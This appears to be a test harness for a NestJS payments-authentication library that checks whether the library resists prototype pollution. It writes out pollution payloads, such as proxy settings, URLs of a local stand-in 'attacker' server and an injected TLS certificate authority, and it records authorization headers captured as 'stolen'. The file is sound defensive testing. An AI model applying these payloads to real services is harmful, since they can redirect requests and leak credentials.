/**
 * An application in a process of its own, whose `Object.prototype` is polluted. Each message from the parent starts one run.
 * The answer says what the run came to, and which requests the servers got meanwhile.
 */
import { type Attributes, metrics, type ObservableCallback, trace } from '@opentelemetry/api';
import { Agent } from 'node:https';
import type { AxiosRequestConfig } from 'axios';
import { firstValueFrom } from 'rxjs';
import {
  BUILT_IN_PROVIDERS,
  checksumField,
  clientCredentials,
  clientSecretJwt,
  customWebhook,
  defineProvider,
  hashOfCredentials,
  hashWebhook,
  hmacWebhook,
  jws,
  login,
  OWN_ACCOUNT,
  PaymentsSignaturesService,
  refreshToken,
  sharedToken,
  standardWebhooks,
  unsignedWebhook,
} from 'nestjs-payments-auth';
import { PaymentsAuthOpenTelemetryModule } from 'nestjs-payments-auth/opentelemetry';
import { RedisTokenStore } from 'nestjs-payments-auth/redis';
import { PaymentsAuthStatusPage, PaymentsAuthStatusPageModule } from 'nestjs-payments-auth/status-page';
import { PaymentsAuthHealthIndicator, PaymentsAuthHealthModule } from 'nestjs-payments-auth/terminus';
import { signedDelivery } from 'nestjs-payments-auth/testing';
import { applicationAxios } from '../../libs/payments-auth/src/application-axios.js';
import { resolveOptions } from '../../libs/payments-auth/src/options/options.resolver.js';
import { systemClock } from '../../libs/payments-auth/src/payments-auth.clock.js';
import { AxiosTokenTransport } from '../../libs/payments-auth/src/strategies/axios-token-transport.js';
import { LogLines, startApplication } from '../support/application.js';
import { json, startLoopbackServer } from '../support/loopback-server.js';
import { MemoryTokenStore } from '../support/memory-token-store.js';
import { startTlsFront } from '../support/tls.js';

interface Asked {
  readonly url: string;
  readonly headers: readonly string[];
  readonly body: string;
}

interface Keys {
  id: string;
  key: string;
}
const loginAt = (path: string) =>
  login<Keys>({
    path,
    body: ({ credentials: { id, key } }) => ({ json: { id, key } }),
    answer: { token: 'token' },
    documentedLifetimeMs: 3_600_000,
    rejected: ({ status }) => status === 401,
  });

/** A provider that allows any number of logins. */
const acme = defineProvider<Keys, 'acme'>({
  name: 'acme',
  title: 'Acme',
  docs: 'https://docs.acme.test',
  environments: { live: 'https://api.acme.test' },
  credentials: { id: { secret: false }, key: {} },
  token: loginAt('/token'),
  headers: ({ credentials, token }) => ({ Authorization: `Bearer ${token}`, 'X-Client': credentials.id }),
  refusal: { refused: () => false },
});

/** A body as the functions of a definition read it. Most of the fields that they read are missing. */
type Said = Readonly<Record<string, unknown>> | undefined;
const said = (body: unknown) => body as Said;
const judge = defineProvider<Keys, 'judge'>({
  name: 'judge',
  title: 'Judge',
  docs: 'https://docs.judge.test',
  environments: { live: 'https://api.judge.test' },
  credentials: { id: { secret: false }, key: {} },
  token: login<Keys>({
    path: '/token',
    body: ({ credentials: { id, key }, environment, audience }) => ({
      json: { id, key, environment, audience },
    }),
    answer: { token: 'token', expiresIn: 'lasts' },
    documentedLifetimeMs: 3_600_000,
    rejected: ({ body }) => Boolean(said(body)?.['wrong']),
    issued: ({ body }) => !said(body)?.['pending'],
    reason: ({ body }) => (said(body)?.['because'] === undefined ? undefined : 'because'),
  }),
  headers: ({ environment, token }) => ({ Authorization: `Bearer ${token} for ${environment ?? 'nobody'}` }),
  sign: ({ environment, previous, signWith }) => ({
    headers: { 'X-Client': `${environment} ${previous?.status} ${typeof signWith};` },
  }),
  refusal: {
    refused: ({ body }) => Boolean(said(body)?.['refused']),
    incurable: ({ body }) => Boolean(said(body)?.['incurable']),
    challenged: ({ body }) => Boolean(said(body)?.['challenged']),
    scope: ({ body }) =>
      said(body)?.['missing'] === undefined ? undefined : { required: ['read'], held: [] },
    alsoOnSuccess: true,
  },
});

/** Logins in which the client sends its secret, signs with it, sends only its id, or sends nothing. */
const client = {
  path: '/oauth',
  client: ({ credentials: { id, key } }: { credentials: Keys }) => ({ id, secret: key }),
  documentedLifetimeMs: 3_600_000,
};
const tokens = [
  clientCredentials<Keys>(client),
  clientCredentials<Keys>({ ...client, authentication: clientSecretJwt() }),
  clientCredentials<Keys>({
    ...client,
    client: ({ credentials: { id } }) => ({ id }),
    authentication: 'none',
  }),
  login<Keys>({
    path: '/bare',
    method: 'GET',
    answer: { token: 'token' },
    documentedLifetimeMs: 3_600_000,
    rejected: () => false,
  }),
];
/** A provider with refresh tokens. The answer of its issuer decides whether a merchant has to connect again. */
const renewed = () =>
  defineProvider<Keys>({
    name: 'renewed',
    title: 'Renewed',
    docs: 'https://docs.renewed.test',
    environments: { live: 'https://api.renewed.test' },
    credentials: { id: { secret: false }, key: {} },
    token: refreshToken<Keys>({
      path: '/refresh',
      client: ({ credentials: { id } }) => ({ id, secret: 'test-client-secret' }),
      refreshToken: ({ credentials: { key } }) => key,
      rotates: false,
      documentedLifetimeMs: 3_600_000,
    }),
    headers: ({ token: carried }) => ({ Authorization: `Bearer ${carried}` }),
  });
const clients = tokens.map((token, at) =>
  defineProvider<Keys>({
    name: `client-${at}`,
    title: 'Client',
    docs: 'https://docs.client.test',
    environments: { live: 'https://api.client.test' },
    credentials: { id: { secret: false }, key: {} },
    token,
    headers: ({ token: carried }) => ({ Authorization: `Bearer ${carried}` }),
  }),
);

/** A provider that refuses the first token of each account on some paths, and accepts the next token. */
const gate = defineProvider<Keys, 'gate'>({
  name: 'gate',
  title: 'Gate',
  docs: 'https://docs.gate.test',
  environments: { live: 'https://api.gate.test' },
  credentials: { id: { secret: false }, key: {} },
  token: loginAt('/gate-token'),
  headers: ({ token }) => ({ Authorization: `Bearer ${token}` }),
  refusal: { refused: ({ body }) => said(body)?.['ended'] === true },
});
/** A provider that refuses the first key of each account on some paths, and accepts the next key. */
const keyed = defineProvider<Keys, 'keyed'>({
  name: 'keyed',
  title: 'Keyed',
  docs: 'https://docs.keyed.test',
  environments: { live: 'https://api.keyed.test' },
  credentials: { id: { secret: false }, key: {} },
  headers: ({ credentials: { key } }) => ({ 'X-Key': key }),
  refusal: { refused: ({ body }) => said(body)?.['ended'] === true },
});
const keysRead = new Map<string, number>();
const tokensGiven = new Map<string, number>();
/** Counts one more request for `name`, and returns the number so far. */
function countOf(counts: Map<string, number>, name: string): number {
  const count = (counts.get(name) ?? 0) + 1;
  counts.set(name, count);
  return count;
}

/** The names and labels that the library hands to OpenTelemetry. No SDK reads them here. */
const recorded: string[] = [];
const observed: ObservableCallback[] = [];
const note = (name: string, attributes: Attributes = {}) =>
  void recorded.push(`${name} ${JSON.stringify(Object.entries(attributes))}`);
const instrument = (name: string) => ({
  add: (value: number, attributes?: Attributes) => value > 0 && note(name, attributes),
  record: (_value: number, attributes?: Attributes) => note(name, attributes),
  addCallback: (callback: ObservableCallback) => observed.push(callback),
  removeCallback: () => undefined,
});
metrics.setGlobalMeterProvider({
  getMeter: () =>
    ({
      createCounter: instrument,
      createHistogram: instrument,
      createObservableCounter: instrument,
      createObservableGauge: instrument,
    }) as never,
});
trace.setGlobalTracerProvider({
  getTracer: () =>
    ({
      startSpan: (name: string, { attributes }: { attributes?: Attributes }) => {
        note(name, attributes);
        return {
          setStatus: ({ code }: { code: number }) => note(`${name} ended ${code}`),
          end: () => undefined,
        };
      },
    }) as never,
});

/** An environment without any variable. */
const variables = Object.assign(() => undefined, { hasLostDigits: () => false });

const attacker = await startLoopbackServer((_, response) => json(response, 200, { token: 'attacker' }));
const server = await startLoopbackServer((request, response) => {
  if (request.url === '/refresh' && request.body.includes('wrong'))
    json(response, 400, { error: 'invalid_grant' });
  else if (request.url === '/refresh') json(response, 200, { access_token: 't-renewed' });
  else if (request.url === '/oauth')
    json(response, 200, { access_token: 't-of-client', token_type: 'bearer' });
  else if (request.url === '/token' && request.body.includes('wrong-key')) json(response, 401, {});
  else if (request.url === '/gate-token') {
    const { id } = JSON.parse(request.body.toString()) as Keys;
    json(response, 200, { token: `t-${id}-${countOf(tokensGiven, id)}` });
  } else if (request.url?.startsWith('/gated')) {
    const carried = request.headers.authorization ?? String(request.headers['x-key']);
    if (request.url === '/gated' && carried.endsWith('-1')) json(response, 400, { ended: true });
    else if (request.url === '/gated/bare') json(response, 401, {});
    else if (request.url === '/gated/busy') json(response, 503, { busy: true });
    else json(response, 200, { ok: true });
  } else if (request.url === '/bare') json(response, 200, { token: 't-of-bare' });
  else if (request.url === '/token')
    json(response, 200, { token: `t-of-${(JSON.parse(request.body.toString()) as Keys).id}` });
  else json(response, 200, request.url === '/list' ? [{ ok: true }] : { ok: true });
});
const { port } = new URL(attacker.url);

const options = () => ({
  providers: {
    cashfin: {
      baseUrl: server.url,
      credentials: { clientSecret: 'cs_own' },
      accounts: { B: { clientSecret: 'cs_B' } },
    },
    acme: {
      provider: acme,
      baseUrl: server.url,
      keepWarm: 'when-used' as const,
      credentials: { id: 'own', key: 'test-own' },
      accounts: (id: string) =>
        id === 'nobody' ? undefined : { id: id.replace(/\d+$/, ''), key: `test-${id}` },
    },
    judge: {
      provider: judge,
      baseUrl: server.url,
      keepWarm: 'when-used' as const,
      accounts: (id: string) => ({ id: id.replace(/\d+$/, ''), key: `test-${id}` }),
    },
    gate: {
      provider: gate,
      baseUrl: server.url,
      keepWarm: 'when-used' as const,
      accounts: (id: string) => ({ id, key: 'test-key-of-gate' }),
    },
    keyed: {
      provider: keyed,
      baseUrl: server.url,
      keepWarm: 'when-used' as const,
      accounts: (id: string) => ({ id, key: `test-key-${countOf(keysRead, id)}` }),
    },
    renewed: {
      provider: renewed(),
      baseUrl: server.url,
      keepWarm: 'when-used' as const,
      accounts: (id: string) => ({ id: 'client', key: `${id.replace(/\d+$/, '')}-refresh-token-of-test` }),
    },
    ...Object.fromEntries(
      clients.map((provider) => [
        provider.name,
        {
          provider,
          baseUrl: server.url,
          keepWarm: 'when-used' as const,
          accounts: () => ({ id: 'client', key: 'test-key-of-all' }),
        },
      ]),
    ),
    clickpesa: {
      baseUrl: server.url,
      keepWarm: 'when-used' as const,
      credentials: { clientId: 'own', apiKey: 'test-own', checksumKey: 'CHK-own' },
      accounts: { B: { clientId: 'B', apiKey: 'test-B', checksumKey: 'CHK-B' } },
    },
  },
});
const application = await startApplication(options());
const { paymentsAuth } = application;
/** An application whose interceptor passes on a copy of each config. The copy is a plain object, which inherits. */
const copying = (await startApplication(options())).paymentsAuth;
const COPYING = ['cashfin', 'gate'] as const;
for (const name of COPYING) copying.http(name).axiosRef.interceptors.request.use((config) => ({ ...config }));
const signatures = application.app.get(PaymentsSignaturesService);

/** Values that an attacker can put on every object by JSON alone. */
const values = (name: string): unknown[] => [
  'B',
  { host: '127.0.0.1', port: Number(port), protocol: 'http' },
  attacker.url,
  ['B'],
  true,
  false,
  { [name]: 'B', api: attacker.url, secretKey: 'x' },
  '/{secretKey}',
];

/** The parts of an assertion that are the same each time. */
function claimsOf(assertion: string): string {
  const [header = '', payload = ''] = assertion
    .split('.')
    .map((part) => Buffer.from(part, 'base64url').toString());
  return header + payload.replace(/"(?:jti|iat|exp)":("[^"]*"|\d+),?/g, '');
}

function told(): Asked[] {
  const asked = server.requests.splice(0).map(({ url, rawHeaders, body }) => ({
    url,
    // Node itself leaves out of `headers` each name that the prototype already has.
    headers: rawHeaders
      .filter((_, at) => /authorization|client|key|^host$/i.test(rawHeaders[at - (at % 2)] ?? ''))
      .map((text) => text.replace(/t-B\d+/, 't-B')),
    body: body
      .toString()
      .replace(/test-B\d+/, 'test-B')
      .replace(/"id":"B\d+"/, '"id":"B"')
      .replace(/wrong-key-\d+/, 'wrong-key')
      .replace(/(?<=client_assertion=)[^&]+/, claimsOf),
  }));
  // Some of the requests are made at the same time, so their order is sorted.
  return asked.toSorted((one, other) => JSON.stringify(one).localeCompare(JSON.stringify(other)));
}

const [PAYLOAD, SECRET] = [{ id: 'evt_1', amount: '1' }, 'dGVzdC1rZXktbm90LXJlYWw='];
/** A webhook of each kind. Each description leaves every part to its default that has one. */
const schemes = defineProvider<{ key: string; id: string }, 'sender'>({
  name: 'sender',
  title: 'Sender',
  docs: 'https://docs.sender.test',
  environments: { live: 'https://api.sender.test' },
  credentials: { key: {}, id: {} },
  headers: ({ credentials }) => ({ 'X-Key': credentials.key }),
  webhooks: {
    hmac: hmacWebhook({ key: 'key', header: 'x-hmac' }),
    field: hmacWebhook({
      key: 'key',
      field: 'mac',
      signed: { canonicalJson: true, without: ['mac'] },
    }),
    dated: hmacWebhook({
      key: 'key',
      header: 'x-dated',
      list: { signature: 'v1', timestamp: 't' },
      signed: '{timestamp}.{body}',
    }),
    hash: hashWebhook({
      secrets: ['key'],
      hash: 'sha256',
      header: 'x-hash',
      signed: '{credential:key}{body}',
    }),
    standard: standardWebhooks({ key: 'key' }),
    token: sharedToken({ key: 'key', header: 'x-token', confirmWith: 'GET /x' }),
    constant: hashOfCredentials({ of: ['id', 'key'], hash: 'sha256', header: 'x-constant' }),
    unsigned: unsignedWebhook({ fields: ['id'], confirmWith: 'GET /x' }),
    custom: customWebhook({
      keys: ['key'],
      proves: 'payload',
      verify: ({ message, credentials }) => {
        const { mac, by, ...rest } = message.body as { mac?: string; by?: string };
        if (mac !== credentials.key || by !== undefined) return {} as never;
        return { payload: rest };
      },
      sign: ({ payload, credentials }) => ({
        body: JSON.stringify({ ...(payload as object), mac: credentials.key }),
      }),
    }),
  },
});
const credentials = { key: SECRET, id: 'own' };
const deliveries = await Promise.all(
  Object.keys(schemes.webhooks ?? {}).map(async (scheme) => ({
    scheme,
    genuine: await signedDelivery(schemes, { scheme, payload: PAYLOAD, credentials }),
    forged: await signedDelivery(schemes, {
      scheme,
      payload: PAYLOAD,
      credentials: { key: 'dGVzdC1vdGhlci1rZXk=', id: 'other' },
    }),
  })),
);
/** Verifies messages. It makes no calls. */
const verifier = (
  await startApplication({ providers: { sender: { provider: schemes, baseUrl: server.url, credentials } } })
).app.get(PaymentsSignaturesService);

async function webhooks(): Promise<unknown> {
  return Promise.all(
    deliveries.flatMap(({ scheme, genuine, forged }) =>
      [genuine, forged, { ...genuine, headers: {}, rawBody: Buffer.from('{}') }].map(async (message) => {
        const delivery = await verifier
          .verifyWebhook('sender', message, { schemes: [scheme] })
          .catch((error: { message: string }) => error.message);
        if (delivery === undefined || typeof delivery === 'string') return [scheme, delivery];
        const { payload, proves, deliveryId, account, headers, confirmWith } = delivery;
        const whose = account === undefined ? 'no account' : account;
        return [
          scheme,
          payload,
          proves,
          deliveryId.length,
          Object.keys(delivery),
          whose,
          headers,
          confirmWith,
        ];
      }),
    ),
  );
}

let merchants = 0;

async function calls(): Promise<unknown> {
  const post = (name: 'cashfin' | 'acme', config: AxiosRequestConfig) =>
    firstValueFrom(
      paymentsAuth.http(name).request({ method: 'POST', url: '/x', data: { amount: '1' }, ...config }),
    );
  await post('cashfin', { paymentsAuth: { account: OWN_ACCOUNT } });
  const forgotten = [
    await post('cashfin', {}).catch((error: { code: string }) => error.code),
    await post('cashfin', { paymentsAuth: {} }).catch((error: { code: string }) => error.code),
  ];
  await post('cashfin', { paymentsAuth: { account: 'B' } });
  // Each run has a new account, because an account whose login failed does not log in for a while.
  const account = `B${(merchants += 1)}`;
  await post('acme', { paymentsAuth: { account } });
  const judged = await firstValueFrom(paymentsAuth.http('judge', account).post('/list', { amount: '1' }));
  const bound = [paymentsAuth.http('cashfin', OWN_ACCOUNT), paymentsAuth.http('cashfin', 'B')];
  for (const http of bound) await firstValueFrom(http.post('/bound', { amount: '1' }));
  const unnamed = await firstValueFrom(
    paymentsAuth.http('cashfin', undefined).post('/bound', { amount: '1' }),
  ).catch((error: { code: string }) => error.code);
  const other = await paymentsAuth.credentials('acme', account).authenticate({ method: 'GET', url: '/x' });
  await Promise.all(clients.map(({ name }) => firstValueFrom(paymentsAuth.http(name, account).get('/x'))));
  const kept = paymentsAuth.status({ provider: 'cashfin' }).length;
  const { token } = await paymentsAuth.credentials('acme', account).get();
  const checksum = await signatures
    .bodySignature('clickpesa', { amount: '1' })
    .catch((error: { code: string }) => error.code);
  const signedFor = await signatures.bodySignature('clickpesa', { amount: '1' }, { account: 'B' });
  return {
    token,
    forgotten,
    checksum,
    signedFor,
    judged: { data: judged.data as unknown, outcome: judged.paymentsAuth },
    unnamed,
    other: { url: other.url, headers: Object.keys(other.headers), body: other.body },
    kept,
    told: told(),
  };
}

/** Makes calls that are refused, sent again, not sent at all, or not served. Returns their outcomes and counts. */
async function refusals(): Promise<unknown> {
  const account = `B${(merchants += 1)}`;
  const outcomes: unknown[] = [];
  for (const name of ['gate', 'keyed'] as const) {
    const send = async (config: AxiosRequestConfig) => {
      const asked = firstValueFrom(paymentsAuth.http(name, account).request(config)).catch(
        (error: { code: string; response?: { status: number } }) => ({ ...error, data: error.code }),
      );
      const { data, paymentsAuth: how, response } = (await asked) as Readonly<Record<string, unknown>>;
      outcomes.push([name, config.url, data, how, (response as { status?: number } | undefined)?.status]);
    };
    const post = { method: 'POST', data: { amount: '1' } };
    await send({ ...post, url: '/gated/open' });
    await send({ ...post, url: `${attacker.url}/gated` });
    await send({ ...post, url: '/gated', signal: AbortSignal.abort() });
    await send({ ...post, url: '/gated' });
    await send({ ...post, url: '/gated/busy' });
    await send({ ...post, url: '/gated/bare' });
    // This call waits for the renewal that the bare 401 has caused.
    await send({ ...post, url: '/gated/open' });
    const [kept] = paymentsAuth.status({ provider: name, account });
    const { counters, failing, lastErrorCode, state } = kept ?? {};
    // Whether the last call has to wait depends on how soon the renewal ends.
    const { waits: _, ...counted } = counters ?? { waits: 0 };
    outcomes.push({ counters: counted, failing, lastErrorCode, state });
  }
  return { outcomes, told: told() };
}

/** Makes calls whose config an interceptor copies: with an account, without one, and to a host that no call may reach. */
async function copied(): Promise<unknown> {
  const account = `B${(merchants += 1)}`;
  const outcomes: unknown[] = [];
  for (const name of COPYING)
    for (const config of [
      { paymentsAuth: { account: name === 'cashfin' ? 'B' : account } },
      {},
      { paymentsAuth: { account }, url: `${attacker.url}/gated` },
    ]) {
      const asked = copying.http(name).axiosRef.request({
        method: 'POST',
        url: '/gated/open',
        data: { amount: '1' },
        ...config,
      });
      outcomes.push(await asked.then(({ status }) => status).catch(({ code }: { code: string }) => code));
    }
  return { outcomes, told: told() };
}

/** The parts of a Redis client that the store uses. They record the commands. */
function askedRedis() {
  const asked: unknown[] = [];
  const say = (...command: unknown[]) => {
    asked.push(command.slice(1, 3));
    return Promise.resolve(['held']);
  };
  return {
    asked,
    client: { status: 'ready', isCluster: false, eval: say, call: say, on: () => undefined, duplicate: say },
  };
}

const health = (
  await startApplication(
    {
      providers: {
        acme: {
          provider: acme,
          baseUrl: server.url,
          keepWarm: 'when-used',
          credentials: { id: 'own', key: 'test-own' },
        },
      },
    },
    { imports: [PaymentsAuthHealthModule] },
  )
).app.get(PaymentsAuthHealthIndicator);

/** Two applications of a fleet. The second finds in the store what the first has put there. */
const shared = new MemoryTokenStore();
const fleet = await Promise.all(
  [1, 2].map(() => startApplication({ ...options(), store: shared }, { logger: new LogLines() })),
);

/** An application whose own secret is rejected, and its log. */
const logger = new LogLines();
const watched = await startApplication(
  {
    auditLog: true,
    providers: {
      acme: {
        provider: acme,
        baseUrl: server.url,
        keepWarm: 'when-used',
        credentials: { id: 'own', key: 'wrong-key' },
      },
    },
  },
  {
    logger,
    imports: [
      PaymentsAuthOpenTelemetryModule,
      PaymentsAuthStatusPageModule.forRoot({
        guards: [
          class {
            canActivate = () => true;
          },
        ],
      }),
    ],
  },
);

/** Reads log, audit log, status page and metrics. Each of them names an account only where there is one. */
async function operators(): Promise<unknown> {
  logger.lines.length = 0;
  recorded.length = 0;
  const own = watched.paymentsAuth.credentials('acme', OWN_ACCOUNT);
  await own.rotate({ id: 'own', key: `wrong-key-${(merchants += 1)}` });
  await own.get().catch(() => undefined);
  await new Promise((resolve) => setImmediate(resolve));
  const { rows, states, troubles } = await watched.app.get(PaymentsAuthStatusPage).snapshot();
  const marks = rows.map(({ key, trouble, explanation, marks: all }) => [
    key,
    trouble,
    explanation?.cause,
    // Their order depends on whether a new second has begun, so they are sorted.
    [...new Set(all.map(({ words }) => words))].toSorted(),
  ]);
  const lines = logger.lines.map(({ message }) => message).filter((line) => !line.includes('configured'));
  for (const observe of observed)
    void observe({ observe: (_value, attributes) => note('observed', attributes) });
  const measured = [...new Set(recorded)].toSorted();
  const shown = JSON.stringify({ lines, marks, states, troubles, measured });
  return shown.replace(/\b[0-9a-f]{8}\b/g, 'hash').replace(/\d+(?:\.\d+)?/g, '#');
}

/** Uses the parts of the library besides calls: a store, a page, a health check, and the building blocks of definitions. */
async function beside(): Promise<unknown> {
  const { asked, client: redis } = askedRedis();
  const store = new RedisTokenStore(redis, { keys: [{ id: '1', key: 'k'.repeat(43) + '=' }] });
  await store
    .claim(
      { provider: 'acme', account: undefined, hash: 'a'.repeat(64) },
      { newerThan: 0, drop: false, insist: false },
    )
    .catch(() => undefined);
  const page = PaymentsAuthStatusPageModule.forRoot({
    guards: [
      class {
        canActivate = () => true;
      },
    ],
  });
  const [controller] = page.controllers ?? [];
  const { providers } = await resolveOptions(
    {
      providers: { renewed: { provider: renewed(), baseUrl: server.url, accounts: () => undefined } },
    },
    { builtIns: BUILT_IN_PROVIDERS, variables },
  );
  const refreshing = await Promise.all(
    ['right', 'wrong'].map(async (refresh) => {
      const account = `${refresh}${(merchants += 1)}`;
      return paymentsAuth
        .credentials('renewed', account)
        .get()
        .then(({ token }) => token)
        .catch((error: { code: string }) => error.code);
    }),
  );
  return {
    hash: store.hashKey.toString('hex'),
    timeoutMs: store.timeoutMs,
    asked: JSON.stringify(asked).replace(/[0-9a-f]{32,}/g, 'hash'),
    path: Reflect.getMetadata('path', controller as object) as unknown,
    imports: page.imports?.length,
    renewed: providers[0]?.definition.token !== undefined,
    refreshing,
    health: await health.check(),
    operators: await operators(),
    jws: jws({ algorithm: 'HS256', key: SECRET, payload: '{"a":1}' }),
    checksum: checksumField('{"a":1}', { key: SECRET, field: 'mac', format: 'canonical' }),
    told: told(),
  };
}

async function inFleet(): Promise<unknown> {
  const account = `B${(merchants += 1)}`;
  const outcomes: unknown[] = [];
  for (const name of ['gate', 'judge', 'renewed'] as const)
    for (const one of [...fleet, ...fleet]) {
      const asked = firstValueFrom(one.paymentsAuth.http(name, account).post('/gated', { amount: '1' }));
      outcomes.push(await asked.then(({ status }) => status).catch(({ code }: { code: string }) => code));
    }
  for (const { paymentsAuth: own } of fleet) {
    outcomes.push(await own.explain('gate', account));
    await own.credentials('gate', account).revoke();
  }
  return outcomes;
}

/** The resolved options of a boot, without their functions. */
async function boot(): Promise<unknown> {
  const { providers } = await resolveOptions(options(), {
    builtIns: BUILT_IN_PROVIDERS,
    variables,
  });
  const resolved = await Promise.all(
    providers.map(async (provider) => ({
      ...provider,
      definition: provider.definition.name,
      http: { ...provider.http() },
      own: await provider.own?.resolve(),
      accounts: await provider.accounts?.resolve('B'),
      unknown: await provider.accounts?.resolve('C'),
    })),
  );
  // The key has another number each time.
  return JSON.stringify(resolved).replace(/test-key-\d+/g, 'test-key');
}

/** The status of the answer, or the reason why there is no answer. */
async function statusOf(asked: Promise<{ status: number }>): Promise<unknown> {
  return asked.then(
    ({ status }) => status,
    ({ code, failure }: { code?: string; failure?: string }) => failure ?? code,
  );
}

/** Calls a server of the attacker, after the attacker has put the certificate of this server on every object. */
async function untrusted(): Promise<unknown> {
  const front = await startTlsFront(server.url);
  const { paymentsAuth: own, close } = await startApplication({
    providers: { cashfin: { baseUrl: front.url, credentials: { clientSecret: 'cs_own' } } },
  });
  const transport = new AxiosTokenTransport({ clock: systemClock });
  server.requests.length = 0;
  const outcomes = async () => ({
    call: await statusOf(firstValueFrom(own.http('cashfin').get('/x'))),
    login: await statusOf(transport.send(front.url, { method: 'GET', path: '/bare', headers: {} })),
    bare: await statusOf(applicationAxios.get(front.url)),
  });
  const before = await outcomes();
  // oxlint-disable-next-line no-extend-native -- this is the attack
  Object.defineProperty(Object.prototype, 'ca', { value: [front.ca], configurable: true });
  const after = await outcomes().finally(() => Reflect.deleteProperty(Object.prototype, 'ca'));
  const asked = server.requests.splice(0).map(({ url }) => url);
  await close();
  await front.close();
  return { before, after, asked };
}

/** Makes calls and logins over https, each on a new connection, while the prototype has a name that Node's connections read. */
async function overHttps({
  url,
  ca,
  foreign,
  names,
}: Extract<Message, { overHttps: true }>): Promise<unknown> {
  const http = { httpsAgent: new Agent({ ca, keepAlive: false }) };
  const { paymentsAuth: own, close } = await startApplication({
    providers: { cashfin: { baseUrl: url, http, credentials: { clientSecret: 'cs_own' } } },
  });
  const transport = new AxiosTokenTransport({ clock: systemClock, http: () => http, deadlineMs: 500 });
  const ask = async () => {
    const called = await firstValueFrom(own.http('cashfin').get('/x', { timeout: 500 })).catch(
      () => undefined,
    );
    const answer = await transport
      .send(url, { method: 'GET', path: '/bare', headers: { key: 'cs_own' } })
      .catch(() => undefined);
    return [called?.status, answer?.status];
  };
  const before = await ask();
  let tried = 0;
  for (const name of names)
    for (const value of [
      'B',
      '127.0.0.1',
      `http://127.0.0.1:${foreign}`,
      { host: '127.0.0.1', port: foreign, protocol: 'http' },
      foreign,
      true,
    ]) {
      await polluted(name, value, ask);
      tried += 1;
    }
  await close();
  return { before, tried };
}

const RUNS = { boot, calls, copied, refusals, webhooks, beside, inFleet };

async function outcome(run: () => Promise<unknown>): Promise<string> {
  try {
    return JSON.stringify(await run());
  } catch (error) {
    return `failed: ${(error as Error).stack ?? String(error)}`;
  }
}

async function polluted(name: string, value: unknown, run: () => Promise<unknown>): Promise<string> {
  // oxlint-disable-next-line no-extend-native -- this is the attack
  Object.defineProperty(Object.prototype, name, {
    value,
    configurable: true,
    enumerable: true,
    writable: true,
  });
  try {
    return await outcome(run);
  } finally {
    Reflect.deleteProperty(Object.prototype, name);
  }
}

/** Reads an inherited field, as the traps must notice. This shows that the traps work. */
function carelessReader(given: { readonly account?: string }): string | undefined {
  return given.account;
}

/** Runs with traps on `Object.prototype`, and returns each place of the library that reads one of `names` there. */
async function inheritedReads(names: readonly string[], run: () => Promise<unknown>): Promise<string[]> {
  const places = new Set<string>();
  for (const name of names) {
    const trap = {
      // Node itself reads some of these names from property descriptors, so the descriptor itself must not inherit them.
      __proto__: null,
      configurable: true,
      get: () => {
        const [, , reader = ''] = new Error('who reads it').stack?.split('\n') ?? [];
        if (reader.includes('payments-auth/src/') || reader.includes('carelessReader'))
          places.add(`${name} in ${reader.trim()}`);
        return undefined;
      },
      set(this: object, value: unknown) {
        Object.defineProperty(this, name, {
          __proto__: null,
          value,
          configurable: true,
          enumerable: true,
          writable: true,
        } as PropertyDescriptor);
      },
    };
    // oxlint-disable-next-line no-extend-native -- this is the attack
    Object.defineProperty(Object.prototype, name, trap);
  }
  try {
    carelessReader({});
    await outcome(run);
  } finally {
    for (const name of names) Reflect.deleteProperty(Object.prototype, name);
  }
  return [...places].toSorted();
}

type Message =
  | { readonly names: string[]; readonly looksAt: string[] }
  | { readonly traps: string[] }
  | { readonly untrusted: true }
  | { readonly overHttps: true; url: string; ca: string; foreign: number; names: string[] };
process.on('message', (message: Message) => {
  void (async () => {
    if ('overHttps' in message) {
      process.send?.(await overHttps(message));
      return;
    }
    if ('untrusted' in message) {
      process.send?.(await untrusted());
      return;
    }
    if ('traps' in message) {
      const { traps } = message;
      const reads: string[] = [];
      for (const run of Object.values(RUNS)) reads.push(...(await inheritedReads(traps, run)));
      process.send?.({ reads });
      return;
    }
    await outcome(calls);
    const before = {
      boot: await outcome(boot),
      calls: await outcome(calls),
      copied: await outcome(copied),
      refusals: await outcome(refusals),
      webhooks: await outcome(webhooks),
      beside: await outcome(beside),
      inFleet: await outcome(inFleet),
    };
    server.requests.length = 0;
    const different: string[] = [];
    let tried = 0;
    for (const name of message.names) {
      for (const value of values(name)) {
        for (const what of message.looksAt as (keyof typeof RUNS)[]) {
          tried += 1;
          const after = await polluted(name, value, RUNS[what]);
          if (after !== before[what]) different.push(`${name} = ${JSON.stringify(value)}, ${what}: ${after}`);
          server.requests.splice(0);
        }
      }
    }
    const stolen = attacker.requests.map(({ url, headers }) => `${url} ${headers.authorization ?? ''}`);
    process.send?.({ before, different, tried, stolen });
  })();
});
process.send?.('ready');
